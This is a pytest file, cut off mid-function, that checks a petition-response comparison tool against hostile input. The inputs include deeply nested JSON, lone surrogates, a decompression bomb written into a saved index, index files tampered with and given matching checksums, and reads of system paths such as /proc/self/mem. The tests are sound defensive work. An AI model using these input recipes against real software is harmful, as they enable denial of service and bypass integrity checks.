"""Hostile and huge input, round two (issue 14): each reproducer of the issue as a test.

Corpus runs never lose good results for a bad one (D3); ``load_petition`` gives typed errors and
never drops or reorders text (D4, D5, D12) and is linear (D1.3); lone surrogates never crash
(D2); constructors check types (D11); charts draw text literally (D7); the CLI writes UTF-8 and
fails on one line (D8, D9); Markdown makes no links (D10); ``ReuseIndex.load`` checks what it
reads (D6); alignment is bounded (D1.1); a case holds at most ``MAX_RESPONSES`` (D13).
"""

from __future__ import annotations

import contextlib
import copy
import dataclasses
import json
import time
from pathlib import Path
from typing import Any

import pytest

import respcompare as rc
from respcompare.cli import main
from respcompare.load import split_site_notes

from .conftest import FIXTURES

SEED = FIXTURES / "petitions" / "300239.json"


def _seed() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SEED.read_text(encoding="utf-8"))
    return data


def _attrs(data: dict[str, Any]) -> dict[str, Any]:
    attrs: dict[str, Any] = data["data"]["attributes"]
    return attrs


def _single(details: str, *, departments: Any = None) -> dict[str, Any]:
    attrs: dict[str, Any] = {
        "action": "Release the review in full",
        "government_response": {"summary": "Our answer.", "details": details},
    }
    if departments is not None:
        attrs["departments"] = departments
    return {"data": {"id": 1, "attributes": attrs}}


# --------------------------------------------------------------------------- D3 corpus runs


def _bad_files(folder: Path) -> None:
    bad = _seed()
    _attrs(bad)["departments"] = 7
    (folder / "b-departments.json").write_text(json.dumps(bad), encoding="utf-8")
    (folder / "c-deep.json").write_text("[" * 100_000, encoding="utf-8")
    (folder / "d-duplicate.json").write_text('{"data": {}, "data": {}}', encoding="utf-8")


def test_one_bad_file_does_not_end_a_folder_run(tmp_path: Path) -> None:
    (tmp_path / "a-good.json").write_bytes(SEED.read_bytes())
    _bad_files(tmp_path)
    corpus = rc.load_corpus(tmp_path)
    cases = list(corpus)
    assert len(cases) == 1
    names = sorted(Path(e.path).name for e in corpus.errors)
    assert names == ["b-departments.json", "c-deep.json", "d-duplicate.json"]
    assert {e.error for e in corpus.errors} == {"PetitionFormatError"}
    assert all("\n" not in e.reason for e in corpus.errors)


def test_cli_corpus_keeps_the_good_results(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a-good.json").write_bytes(SEED.read_bytes())
    _bad_files(tmp_path)
    out, errors = tmp_path / "out.csv", tmp_path / "errors.csv"
    assert main(["corpus", str(tmp_path), "--out", str(out), "--errors", str(errors)]) == 0
    assert len(out.read_text(encoding="utf-8").splitlines()) == 3  # header + two responses
    err = capsys.readouterr().err
    assert err.count("respcompare: skipped") == 3 and err.count("\n") == 4
    assert err.splitlines()[-1] == "respcompare: reviewed 1 of 4 files, 3 skipped"
    rows = errors.read_text(encoding="utf-8").splitlines()
    assert rows[0] == "path,line,index,error,reason" and len(rows) == 4


HOSTILE_LINES: list[Any] = [
    {"petition_id": 2, "action": "Ban X", "departments": 7, "response_details": "No."},
    {"petition_id": 3, "action": "Ban X", "departments": [1.5], "response_details": "No."},
    {"petition_id": 4, "action": ["Ban X"], "response_details": "No."},
    {"petition_id": 5, "action": "Ban X", "response_details": {"a": 1}},
    {"petition_id": 6, "action": "Ban X", "response_details": "No.", "responded_on": 7},
    {"petition_id": 7, "action": "Ban X", "response_details": "No.", "role": ["x"]},
    {"petition_id": 8, "action": "Ban X", "response_details": "No.", "responded_on": "2020-04-24x"},
    {"petition_id": True, "action": "Ban X", "response_details": "\ud800 No."},
    "[" * 5000,
    "1" * 5000,
    {"petition_id": {"deep": [[[[]]]]}, "action": "", "response_details": "No."},
    {"petition_id": 9, "action": "Ban X" * 30_000, "response_details": "No."},
]


def test_hostile_json_lines_are_recorded_and_skipped(tmp_path: Path) -> None:
    good = {"petition_id": 1, "action": "Ban X", "response_details": "We will ban X."}
    lines = [json.dumps(good)]
    for row in HOSTILE_LINES:
        lines.append(row if isinstance(row, str) else json.dumps(row))
    lines.append(json.dumps({**good, "petition_id": 99}))
    path = tmp_path / "rows.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    corpus = rc.load_corpus(path)
    cases = list(corpus)
    assert [c.petition.id for c in cases] == [1, None, 99]  # the lone surrogate is replaced
    assert cases[1].responses[0].text == "\ufffd No."
    assert len(corpus.errors) == len(HOSTILE_LINES) - 1
    result = rc.review_many(corpus, progress=False)
    assert len(result) == 3


def test_review_many_keeps_200_good_reviews_around_a_bad_case(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import respcompare.corpus as corpus_module

    good = rc.case_from_texts("Ban X", "We will ban X.")
    bad = rc.case_from_texts("Ban Y", "We will ban Y.")
    real = corpus_module.review

    def flaky(case: rc.Case, **options: Any) -> rc.Review:
        if case is bad:
            raise TypeError("simulated bug")
        return real(case, **options)

    monkeypatch.setattr(corpus_module, "review", flaky)
    cases: list[Any] = [good] * 100 + [bad] + [good] * 100 + ["not a case"]
    result = rc.review_many(cases, progress=False, batch_size=7)
    assert len(result) == 200
    assert [(e.index, e.error) for e in result.errors] == [(100, "TypeError"), (201, "InputError")]
    assert "simulated bug" in result.errors[0].reason
    assert result.errors[0].to_dict()["index"] == 100


@pytest.mark.parametrize("batch_size", ["3", 0, 1.5, True])
def test_review_many_checks_batch_size(batch_size: Any) -> None:
    with pytest.raises(rc.InputError, match="batch_size"):
        rc.review_many([], batch_size=batch_size)


# --------------------------------------------------------------------------- D4 typed errors


@pytest.mark.parametrize(
    "source",
    [
        "[" * 100_000,
        '{"data": ' * 50_000,
        '{"data": {"id": ' + "1" * 5000 + "}}",
    ],
)
def test_deep_or_huge_json_is_a_format_error(source: str) -> None:
    with pytest.raises(rc.PetitionFormatError):
        rc.load_petition(source)


def _with(path: str, value: Any) -> dict[str, Any]:
    data = _seed()
    target: Any = data
    keys = path.split(".")
    for k in keys[:-1]:
        target = target[k]
    target[keys[-1]] = value
    return data


@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        ("data.id", "²", "'id'"),
        ("data.id", "9" * 5000, "'id'"),
        ("data.id", True, "'id'"),
        ("data.id", [1], "'id'"),
        ("data.attributes.departments", 7, "departments"),
        ("data.attributes.departments", 1.5, "departments"),
        ("data.attributes.departments", True, "departments"),
        ("data.attributes.departments", [7], "departments"),
        ("data.attributes.other_parliamentary_business", 7, "other_parliamentary_business"),
        ("data.attributes.other_parliamentary_business", 1.5, "other_parliamentary_business"),
        ("data.attributes.other_parliamentary_business", True, "other_parliamentary_business"),
        (
            "data.attributes.other_parliamentary_business",
            {"subject": "Original Government response", "body": "We will."},
            "other_parliamentary_business",
        ),
        ("data.attributes.other_parliamentary_business", [7], "other_parliamentary_business"),
        ("data.attributes.signature_count", True, "signature_count"),
        ("data.attributes.signature_count", "many", "signature_count"),
        ("data.attributes.signature_count", -3, "signature_count"),
        ("data.attributes.action", 7, "action"),
        ("data.attributes.government_response", [], "government_response"),
        ("data.attributes.government_response.details", 7, "details"),
    ],
)
def test_wrong_typed_fields_are_typed_errors(path: str, value: Any, message: str) -> None:
    with pytest.raises(rc.PetitionFormatError, match=message):
        rc.load_petition(_with(path, value))


def test_huge_integer_id_in_a_dict_is_a_typed_error() -> None:
    import sys

    limit = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    try:
        big = int("9" * 5000)
    finally:
        sys.set_int_max_str_digits(limit)
    with pytest.raises(rc.PetitionFormatError, match="'id'"):
        rc.load_petition(_with("data.id", big))


def test_bad_dates_are_typed_errors() -> None:
    with pytest.raises(rc.InputError, match="2020-04-24garbage"):
        rc.model.parse_date("2020-04-24garbage")
    with pytest.raises(rc.InputError):
        rc.load_petition(_with("data.attributes.government_response.responded_on", "2020-04-24x"))
    assert str(rc.model.parse_date("2020-05-19T10:00:00.000Z")) == "2020-05-19"
    assert str(rc.model.parse_date("2020-05-19 10:00:00+01:00")) == "2020-05-19"
    with pytest.raises(rc.InputError):
        rc.model.parse_date("２０２０-04-24")  # fullwidth digits


# --------------------------------------------------------------------------- D5 nothing dropped


def test_revised_note_words_inside_the_text_are_kept() -> None:
    details = (
        "This is a revised response. The Government will publish the review in full.\n\n"
        "It will be published in June 2021."
    )
    case = rc.load_petition(_single(details))
    assert case.responses[0].text == details
    assert case.responses[0].notes == ()


def test_revised_note_at_the_end_is_still_cut() -> None:
    note = (
        "This is a revised response. The Petitions Committee requested a response which more "
        "directly addressed the request of the petition."
    )
    case = rc.load_petition(_single(f"We will publish it.\n\nHome Office\n\n{note}"))
    r = case.responses[0]
    assert (r.text, r.signoff, r.notes) == ("We will publish it.", "Home Office", (note,))


@pytest.mark.parametrize(
    "last",
    [
        "The Home Office will publish the review in full.",
        "HMRC will publish the review in full",
        "The Department for Education will publish it",
        "Home Office staff will publish it",
    ],
)
def test_a_sentence_naming_a_department_is_not_a_signoff(last: str) -> None:
    details = f"We have considered the petition.\n{last}"
    case = rc.load_petition(_single(details, departments=[{"name": "Home Office"}]))
    assert case.responses[0].text == details and case.responses[0].signoff is None


@pytest.mark.parametrize(
    "last",
    [
        "Home Office",
        "HM Treasury",
        "Department for Environment, Food & Rural Affairs.",
        "Office of the Leader of the House of Commons",
        "Foreign, Commonwealth & Development Office",
        "Department of Health and Social Care",
        "HM Revenue & Customs",
        "Government Equalities Office",
        "Attorney General's Office",
    ],
)
def test_a_department_name_alone_is_a_signoff(last: str) -> None:
    case = rc.load_petition(_single(f"We will publish it.\n{last}"))
    assert case.responses[0].signoff == last and case.responses[0].text == "We will publish it."


def test_an_undated_original_comes_before_the_revision() -> None:
    data = _seed()
    for item in _attrs(data)["other_parliamentary_business"]:
        item["body"] = item["body"].split("This response was given on")[0]
    _attrs(data)["government_response"].pop("created_at", None)
    case = rc.load_petition(data)
    assert [r.label for r in case.responses] == ["original", "revised"]
    assert case.responses[0].date is None


def test_duplicate_keys_are_reported() -> None:
    with pytest.raises(rc.PetitionFormatError, match="'action' appears twice"):
        rc.load_petition('{"data": {"attributes": {"action": "A", "action": "B"}}}')


def test_a_bom_prefixed_json_string_is_json() -> None:
    case = rc.load_petition("\ufeff" + SEED.read_text(encoding="utf-8"))
    assert case.petition.id == 300239
    with pytest.raises(rc.PetitionFormatError) as info:
        rc.load_petition('\ufeff{"data": 1')
    assert "<json string>" in str(info.value)


def test_split_site_notes_is_linear_on_white_space() -> None:
    start = time.perf_counter()
    body, notes, date = split_site_notes("We will act." + " " * 40_000 + "x")
    assert time.perf_counter() - start < 1.0
    assert notes == () and date is None and body.endswith("x")
    start = time.perf_counter()
    split_site_notes("This response was given on 1 May 2020" + " " * 90_000 + "x")
    split_site_notes("\nThis is a revised response. " * 2_500)
    assert time.perf_counter() - start < 1.0
    with pytest.raises(rc.InputTooLargeError):
        split_site_notes("x" * (rc.model.MAX_TEXT_CHARS + 1))


def test_huge_petition_file_is_refused_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.json"
    with big.open("wb") as f:
        f.write(b'{"data": "' + b"x" * 9_000_000 + b'"}')
    with pytest.raises(rc.InputTooLargeError, match="one petition"):
        rc.load_petition(big)


def test_copy_of_seed_is_unchanged() -> None:  # the helpers above do not mutate the fixture
    assert copy.deepcopy(_seed()) == _seed()


# --------------------------------------------------------------------------- D2 lone surrogates


def test_align_with_lone_surrogates() -> None:
    al = rc.align("a \udfff.", "a.")
    assert al.ops[0].a is not None and al.ops[0].a.text == "a \ufffd."
    assert (al.ops[0].a.start, al.ops[0].a.end) == (0, 4)  # offsets into the text passed


def test_review_reports_and_index_with_lone_surrogates() -> None:
    case = rc.case_from_texts("Ban \ud800 X", "We will \udfff ban X.", "We will not \ud800.")
    assert case.petition.action == "Ban \ufffd X"
    assert len(case.responses[0].text) == len("We will \udfff ban X.")
    review = rc.review(case)
    for text in (
        review.to_markdown(),
        review.to_html(),
        json.dumps(review.to_dict(), ensure_ascii=False),
    ):
        text.encode("utf-8")
    index = rc.build_index(["a \ud800 b c d e f g h i j k l m n", "x \udc80"])
    assert index.texts[0] == "a \ufffd b c d e f g h i j k l m n"
    index.catalogue()
    spans = rc.reuse.carried_over("We act \ud800.", "We act \udc00.")
    assert [s.text for s in spans] == ["We act \ufffd."]


def test_load_petition_with_lone_surrogates(capsys: pytest.CaptureFixture[str]) -> None:
    raw = json.dumps(_single("We will publish it \\ud800 in full."))  # valid JSON
    raw = raw.replace("\\\\ud800", "\\ud800")
    case = rc.load_petition(raw)
    assert "\ufffd" in case.responses[0].text


def test_cli_outputs_with_lone_surrogates(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "s.json"
    path.write_text(
        json.dumps(_single("We will publish the review \udfff in full.")), encoding="utf-8"
    )
    for fmt in ("md", "html", "json"):
        assert main(["review", str(path), "--format", fmt]) == 0
        assert "\ufffd" in capsys.readouterr().out


# --------------------------------------------------------------------------- D11 constructors


def test_petition_checks_signature_count_and_departments() -> None:
    with pytest.raises(rc.InputError, match="signature_count"):
        rc.Petition(action="Ban X", signature_count="many")  # type: ignore[arg-type]
    with pytest.raises(rc.InputError, match="signature_count"):
        rc.Petition(action="Ban X", signature_count=True)
    with pytest.raises(rc.InputError, match="departments"):
        rc.Petition(action="Ban X", departments=("Home Office", 7))  # type: ignore[arg-type]
    with pytest.raises(rc.InputError, match="departments"):
        rc.Petition(action="Ban X", departments=7)  # type: ignore[arg-type]
    with pytest.raises(rc.InputError, match="department"):
        rc.Response(text="We will.", department=7)  # type: ignore[arg-type]


def test_build_index_checks_departments() -> None:
    with pytest.raises(rc.InputError, match="department"):
        rc.reuse.Document("a", "We will.", 7)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- D13 responses


def test_a_case_holds_at_most_max_responses() -> None:
    petition = rc.Petition(action="Ban X")
    many = [rc.Response(text="No.", label=f"r{i}") for i in range(rc.model.MAX_RESPONSES + 1)]
    with pytest.raises(rc.InputTooLargeError, match="responses"):
        rc.Case(petition=petition, responses=many)
    assert len(rc.Case(petition=petition, responses=many[:-1]).responses) == 50


# --------------------------------------------------------------------------- D7 charts


@pytest.mark.parametrize("kind", ["scorecard", "ladder", "alignment", "cues"])
def test_charts_draw_dollars_literally(kind: str) -> None:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    from matplotlib.text import Text

    action = "Cut the $5 fee to $2 $\\undefinedcmd$"
    case = rc.case_from_texts(
        rc.Petition(action=action),
        "We will not cut the $5 fee. Costs are $\\undefinedcmd$ high.",
        "We will cut the $5 fee to $2 from May 2021. $\\undefinedcmd$",
        original_date="2021-01-01",
        revised_date="2021-02-01",
    )
    ax = rc.review(case).plot(kind)  # type: ignore[arg-type]
    fig = ax.get_figure(root=True)
    assert fig is not None
    try:
        fig.canvas.draw()  # would raise ValueError on mathtext
        texts = [t for t in ax.findobj(Text) if "$" in t.get_text()]
        assert all(not t.get_parse_math() for t in ax.findobj(Text))
        if kind == "ladder":
            assert any("Cut the $5 fee to $2" in t.get_text() for t in texts)
    finally:
        plt.close(fig)


def test_cli_chart_with_mathtext_keeps_the_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    original, revised = tmp_path / "a.txt", tmp_path / "b.txt"
    original.write_text("We will not act.", encoding="utf-8")
    revised.write_text("We will cut the $5 fee to $2.", encoding="utf-8")
    chart = tmp_path / "c.png"
    argv = ["review", "--petition", "Cut $\\undefinedcmd$ fees", "--original", str(original)]
    argv += ["--revised", str(revised), "--chart", str(chart), "--chart-kind", "ladder"]
    assert main(argv) == 0
    assert chart.read_bytes()[:4] == b"\x89PNG"
    assert "Did they answer?" in capsys.readouterr().out


# --------------------------------------------------------------------------- D8, D9 the CLI


def test_cli_writes_utf8_whatever_the_locale(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONIOENCODING": "cp1252", "PYTHONUTF8": "0", "LC_ALL": "C"}
    argv = [sys.executable, "-m", "respcompare", "review", "--example", "grooming-gangs"]
    proc = subprocess.run(argv, capture_output=True, env=env, timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "Did they answer?" in proc.stdout.decode("utf-8")


def test_cli_corpus_out_in_a_missing_folder_fails_before_reviewing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import respcompare.corpus as corpus_module

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("reviewed before checking --out")

    monkeypatch.setattr(corpus_module, "review_many", never)
    (tmp_path / "a.json").write_bytes(SEED.read_bytes())
    assert main(["corpus", str(tmp_path), "--out", "/nonexistent/x.csv"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "does not exist" in err


def test_cli_corpus_with_a_non_utf8_file_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import os

    good = os.path.join(os.fsencode(tmp_path), b"caf\xe9.json")
    with open(good, "wb") as f:
        f.write(SEED.read_bytes())
    bad = os.path.join(os.fsencode(tmp_path), b"bad\xff.json")
    with open(bad, "wb") as f:
        f.write(b"{")
    out = tmp_path.parent / f"{tmp_path.name}-out.json"
    assert main(["corpus", str(tmp_path), "--out", str(out)]) == 0
    data = json.loads(out.read_text(encoding="utf-8"))
    assert len(data["records"]) == 2 and data["records"][0]["source"].endswith("caf\ufffd.json")
    assert data["errors"][0]["path"].endswith("bad\ufffd.json")
    err = capsys.readouterr().err
    assert "internal error" not in err and err.count("\n") == 2
    assert err.splitlines()[-1] == "respcompare: reviewed 1 of 2 files, 1 skipped"


@pytest.mark.parametrize("path", ["/proc/self/mem", "/", "/dev/null/x"])
def test_cli_unreadable_text_file_is_one_line(
    path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["review", "--petition", "Ban X", "--original", path]) == 2
    err = capsys.readouterr().err
    assert err.startswith("respcompare: error:") and err.count("\n") == 1


def test_cli_internal_error_is_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import respcompare.cli as cli

    def broken(case: rc.Case, **options: Any) -> rc.Review:
        raise RuntimeError("first line\nsecond line\n\tthird")

    monkeypatch.setattr(cli, "review", broken)
    assert main(["review", "--example", "grooming-gangs"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("respcompare: internal error (RuntimeError: first line second line")
    assert err.count("\n") == 1


# --------------------------------------------------------------------------- D6 saved indexes


def _index(tmp_path: Path) -> Path:
    texts = [
        f"We keep this under review and will consider the matter in due course, case {i}."
        for i in range(8)
    ]
    return rc.build_index(texts, shingle=4, min_docs=2).save(tmp_path / "stock")


def _recraft(npz: Path, change: Any, *, meta_change: Any = None) -> None:
    """Change a saved index's arrays (and sidecar) and record a matching checksum, as an
    attacker who rewrites both files would."""
    import hashlib

    import numpy as np

    with np.load(npz) as z:
        arrays = {k: z[k] for k in z.files}
    change(arrays)
    with npz.open("wb") as f:
        np.savez(f, **arrays)
    side = npz.with_name(npz.name + ".json")
    meta = json.loads(side.read_text(encoding="utf-8"))
    if meta_change is not None:
        meta_change(meta)
    meta["sha256"] = hashlib.sha256(npz.read_bytes()).hexdigest()
    meta["bytes"] = npz.stat().st_size
    side.write_text(json.dumps(meta), encoding="utf-8")


def test_saved_index_round_trip_and_sidecar_name(tmp_path: Path) -> None:
    path = _index(tmp_path)
    assert path.with_name("stock.npz.json").is_file()
    assert rc.reuse.ReuseIndex.load(path).catalogue() is not None


def _swap(a: dict[str, Any], key: str, i: int, j: int) -> None:
    x = a[key].copy()
    x[[i, j]] = x[[j, i]]
    a[key] = x


CRAFTED: dict[str, Any] = {
    "unsorted hashes": lambda a: _swap(a, "hashes", 0, 1),
    "shifted offsets": lambda a: a.__setitem__("offsets", a["offsets"] + 1),
    "offsets not increasing": lambda a: _swap(a, "offsets", 1, 2),
    "posting out of range": lambda a: a.__setitem__("post_doc", a["post_doc"] + 100),
    "position out of range": lambda a: a.__setitem__("post_pos", a["post_pos"] + 1000),
    "wrong dtype": lambda a: a.__setitem__("hashes", a["hashes"].astype("int64")),
    "2-d hashes": lambda a: a.__setitem__("hashes", a["hashes"].reshape(1, -1)),
    "missing array": lambda a: a.pop("runs"),
    "extra array": lambda a: a.__setitem__("extra", a["hashes"]),
    "shares out of range": lambda a: a.__setitem__("shares", a["shares"] + 2),
    "runs out of range": lambda a: a.__setitem__("runs", a["runs"] * 1000),
    "text lengths": lambda a: a.__setitem__("text_lengths", a["text_lengths"] + 1),
    "bad utf-8": lambda a: a.__setitem__("text_bytes", a["text_bytes"] | 0x80),
    "object array": lambda a: a.__setitem__("hashes", a["hashes"].astype(object)),
}


@pytest.mark.parametrize("name", sorted(CRAFTED))
def test_crafted_arrays_are_refused(tmp_path: Path, name: str) -> None:
    path = _index(tmp_path)
    _recraft(path, CRAFTED[name])
    with pytest.raises(rc.InputError, match="rebuild it"):
        rc.reuse.ReuseIndex.load(path)


@pytest.mark.parametrize(
    "change",
    [
        lambda m: m.__setitem__("shingle", 0),
        lambda m: m.__setitem__("shingle", "4"),
        lambda m: m.__setitem__("min_docs", True),
        lambda m: m.__setitem__("ids", ["0"] * len(m["ids"])),
        lambda m: m.__setitem__("ids", m["ids"][:-1]),
        lambda m: m.__setitem__("departments", 7),
        lambda m: m.__setitem__("dates", ["2020-13-45"] * len(m["ids"])),
        lambda m: m.__setitem__("npz", "other.npz"),
        lambda m: m.__setitem__("version", 1),
    ],
)
def test_crafted_sidecars_are_refused(tmp_path: Path, change: Any) -> None:
    path = _index(tmp_path)
    _recraft(path, lambda a: None, meta_change=change)
    with pytest.raises(rc.InputError, match="rebuild it"):
        rc.reuse.ReuseIndex.load(path)


def test_truncated_changed_or_mismatched_files_are_refused(tmp_path: Path) -> None:
    path = _index(tmp_path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(rc.InputError, match="rebuild it"):
        rc.reuse.ReuseIndex.load(path)
    path.write_bytes(data)
    other = rc.build_index(["a b c d e f", "a b c d e g"], shingle=2, min_docs=2)
    other_path = other.save(tmp_path / "other")
    path.with_name("stock.npz.json").write_bytes(
        other_path.with_name("other.npz.json").read_bytes()
    )
    with pytest.raises(rc.InputError, match="rebuild it"):
        rc.reuse.ReuseIndex.load(path)


def test_a_compressed_bomb_is_refused_before_reading(tmp_path: Path) -> None:
    import zipfile

    path = _index(tmp_path)

    def bomb(a: dict[str, Any]) -> None:
        pass

    _recraft(path, bomb)
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members["text_bytes.npy"] = members["text_bytes.npy"][:128] + b"\0" * 50_000_000
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, blob in members.items():
            z.writestr(name, blob)
    assert path.stat().st_size < 1_000_000
    _recraft_checksum(path)
    with pytest.raises(rc.InputError, match="compressed"):
        rc.reuse.ReuseIndex.load(path)


def _recraft_checksum(npz: Path) -> None:
    import hashlib

    side = npz.with_name(npz.name + ".json")
    meta = json.loads(side.read_text(encoding="utf-8"))
    meta["sha256"] = hashlib.sha256(npz.read_bytes()).hexdigest()
    meta["bytes"] = npz.stat().st_size
    side.write_text(json.dumps(meta), encoding="utf-8")


def test_save_never_overwrites_a_file_that_is_not_its_own(tmp_path: Path) -> None:
    petition = tmp_path / "300239.json"
    petition.write_bytes(SEED.read_bytes())
    index = rc.build_index(["a b c d e f", "a b c d e g"], shingle=2, min_docs=2)
    index.save(tmp_path / "300239.npz")
    assert petition.read_bytes() == SEED.read_bytes()
    (tmp_path / "x.npz.json").write_text('{"mine": true}', encoding="utf-8")
    with pytest.raises(rc.InputError, match=r"not a sidecar written by ReuseIndex\.save"):
        index.save(tmp_path / "x.npz")
    (tmp_path / "y.npz").write_bytes(b"someone else's")
    with pytest.raises(rc.InputError, match="choose another name"):
        index.save(tmp_path / "y.npz")
    assert (tmp_path / "y.npz").read_bytes() == b"someone else's"
    index.save(tmp_path / "300239.npz")  # its own files: overwritten


# --------------------------------------------------------------------------- D1.1 alignment


def _shuffled_pair(n: int) -> tuple[str, str]:
    import random

    a = " ".join(f"We act {i} now." for i in range(n))
    b = [f"We act {i} today." for i in range(n)]
    random.Random(0).shuffle(b)
    return a, " ".join(b)


def test_alignment_of_thousands_of_sentences_is_bounded() -> None:
    import tracemalloc

    a, b = _shuffled_pair(2000)  # was 71 s and 2 GB
    rc.segment(a), rc.segment(b)
    tracemalloc.start()
    start = time.perf_counter()
    al = rc.align(a, b, with_effects=False)
    took = time.perf_counter() - start
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert took < 20 and peak < 400_000_000
    assert al.capped and al.notes and "2000 x 2000" in al.notes[0]
    paired = [op for op in al.ops if op.kind in ("edited", "moved-edited")]
    assert len(paired) == 2000  # every sentence still found its partner by its number
    assert al.to_dict()["capped"] is True
    assert al.to_markdown().startswith("*Limited alignment:")


def test_normal_alignments_are_exact_and_not_capped() -> None:
    a, b = _shuffled_pair(200)
    al = rc.align(a, b, with_effects=False)
    assert not al.capped and al.notes == ()
    assert len([op for op in al.ops if op.kind in ("edited", "moved-edited")]) == 200


def test_word_edits_of_a_giant_sentence_pair_are_bounded() -> None:
    import tracemalloc

    b = " ".join(["\U0001f600"] * 30_000)
    a = " ".join("Z" if i % 5 == 4 else "\U0001f600" for i in range(30_000))
    tracemalloc.start()
    al = rc.align(a, b, with_effects=False)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert al.capped and "word-level edits" in al.notes[-1]
    assert peak < 100_000_000
    (op,) = al.ops
    assert op.kind == "edited" and [w.tag for w in op.words] == ["equal", "replace"]
    assert op.words[0].a.text == " ".join(["\U0001f600"] * 4)  # the common start


# --------------------------------------------------------------------------- property tests

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

SETTINGS: dict[str, Any] = {
    "deadline": None,
    "suppress_health_check": [HealthCheck.too_slow],
    "derandomize": True,
}
SURROGATES = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
PIECES = st.one_of(
    st.sampled_from(
        ["We will publish the review in full.", "We have no plans to.", " ", "\n\n", ".", "may"]
    ),
    SURROGATES,
    st.text(max_size=6),
    st.text(SURROGATES, min_size=1, max_size=3),
)
SURROGATE_TEXTS = st.lists(PIECES, min_size=1, max_size=10).map("".join)
JSON_VALUES = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        st.text(max_size=8),
        SURROGATE_TEXTS,
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)
    ),
    max_leaves=6,
)
FIELD_PATHS = [
    "data",
    "data.id",
    "data.attributes",
    "data.attributes.action",
    "data.attributes.background",
    "data.attributes.additional_details",
    "data.attributes.departments",
    "data.attributes.signature_count",
    "data.attributes.government_response",
    "data.attributes.government_response.details",
    "data.attributes.government_response.summary",
    "data.attributes.government_response.responded_on",
    "data.attributes.government_response.created_at",
    "data.attributes.other_parliamentary_business",
    "links",
    "links.self",
]


def _tolerate(fn: Any) -> Any:
    try:
        return fn()
    except rc.RespcompareError as exc:
        assert str(exc).strip() and "\n" not in str(exc).strip("\n")
        return None


@settings(max_examples=400, **SETTINGS)
@given(st.sampled_from(FIELD_PATHS), JSON_VALUES)
def test_load_petition_with_wrong_typed_fields(path: str, value: Any) -> None:
    data = _seed()
    data["links"] = {"self": "https://petition.parliament.uk/petitions/300239"}
    target: Any = data
    for k in path.split(".")[:-1]:
        target = target[k]
    target[path.split(".")[-1]] = value
    for source in (data, json.dumps(data)):
        case = _tolerate(lambda source=source: rc.load_petition(source))
        if case is not None:
            assert case.responses and case.petition.action.strip()
            labels = [r.label for r in case.responses]
            assert labels.index(labels[-1]) == len(labels) - 1
            if len(labels) == 2:
                assert labels == ["original", "revised"]


@settings(max_examples=200, **SETTINGS)
@given(SURROGATE_TEXTS, SURROGATE_TEXTS)
def test_align_with_surrogates_keeps_offsets(a: str, b: str) -> None:
    al = _tolerate(lambda: rc.align(a, b))
    if al is None:
        return
    clean_a, clean_b = rc.model.replace_surrogates(a), rc.model.replace_surrogates(b)
    for op in al.ops:
        if op.a is not None:
            assert op.a.end <= len(a) and clean_a[op.a.start : op.a.end] == op.a.text
        if op.b is not None:
            assert op.b.end <= len(b) and clean_b[op.b.start : op.b.end] == op.b.text
    for out in (al.to_html(), al.to_markdown(), json.dumps(al.to_dict(), ensure_ascii=False)):
        out.encode("utf-8")


@settings(max_examples=40, **SETTINGS)
@given(SURROGATE_TEXTS, SURROGATE_TEXTS, SURROGATE_TEXTS)
def test_review_with_surrogates(action: str, original: str, revised: str) -> None:
    case = _tolerate(lambda: rc.case_from_texts(action, original, revised))
    if case is None:
        return
    review = rc.review(case)
    for out in (
        review.to_markdown(),
        review.to_html(),
        json.dumps(review.to_dict(), ensure_ascii=False),
    ):
        out.encode("utf-8")
    rc.build_index([r.full_text for r in case.responses], shingle=2, min_docs=2).catalogue()


# --------------------------------------------------------------------------- adversarial shapes


def _shapes() -> dict[str, Any]:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))
    try:
        import bench_adversarial
    finally:
        sys.path.pop(0)
    return {s.name: s for s in bench_adversarial.shapes()}, bench_adversarial.perturb  # type: ignore[return-value]


FULL_SIZE = [
    "numbered-at-limit",
    "urls",
    "white-space-run",
    "blank-lines",
    "double-quotes-nested",
    "emoji",
    "hyphen-chain",
    "same-sentence-x2000",
    "note-phrase",
    "lone-surrogates",
]


@pytest.mark.parametrize("name", FULL_SIZE)
def test_load_and_align_at_the_limit_are_bounded(name: str) -> None:
    shapes, perturb = _shapes()
    shape = shapes[name]
    original = perturb(shape.text)
    # segmentation (segment.py, cached) is not timed: on ". " * 50000 it alone takes ~10 s
    rc.segment(original), rc.segment(shape.text)
    start = time.perf_counter()
    case = rc.load_petition(
        {
